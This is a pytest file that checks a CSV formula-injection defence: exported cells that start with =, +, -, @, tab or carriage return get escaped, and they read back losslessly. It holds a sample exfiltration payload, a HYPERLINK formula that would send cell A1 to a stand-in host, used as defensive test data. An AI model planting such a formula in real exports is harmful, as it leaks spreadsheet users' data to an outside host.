"""F9: CSV exports escape cells a spreadsheet would run as formulas (OWASP), and facit's
own CSV readers read the escaped cells back to the original values."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from facit.core.csv_safe import escape_cell, unescape_cell
from facit.literature.imports.formats import ParsedRecord, parse_file, to_csv

HOSTILE = '=HYPERLINK("https://example.invalid/?x="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(start: str) -> None:
    assert escape_cell(start + "1+1") == "'" + start + "1+1"


def test_plain_text_and_numbers_are_left_alone() -> None:
    assert escape_cell("Parenting programmes") == "Parenting programmes"
    assert escape_cell(2019) == 2019


@given(st.text())
def test_escaping_then_reading_back_is_lossless(value: str) -> None:
    assert unescape_cell(escape_cell(value)) == value


def test_reference_csv_export_escapes_an_imported_formula_title() -> None:
    record = ParsedRecord(title=HOSTILE, authors=["@attacker"], abstract="-2+3")
    text = to_csv([record])
    assert "=HYPERLINK" not in text.replace("'=HYPERLINK", "")
    assert ",'@attacker," in text and ",'-2+3," in text
    (back,) = parse_file(text.encode(), fmt="csv")
    assert (back.title, back.authors, back.abstract) == (HOSTILE, ["@attacker"], "-2+3")


def test_hsds_tabular_export_escapes_and_reads_back(tmp_path: Path) -> None:
    from facit.directory.hsds import load_any, read_tabular, write_tabular
    from tests.directory.conftest import FICTIONAL

    dataset = load_any(FICTIONAL)
    organization = next(iter(dataset.organizations.values()))
    organization["name"] = HOSTILE
    write_tabular(dataset, tmp_path / "export")
    written = "".join(p.read_text() for p in (tmp_path / "export").glob("*.csv"))
    assert "'=HYPERLINK" in written and ',"=HYPERLINK' not in written
    assert read_tabular(tmp_path / "export") == dataset
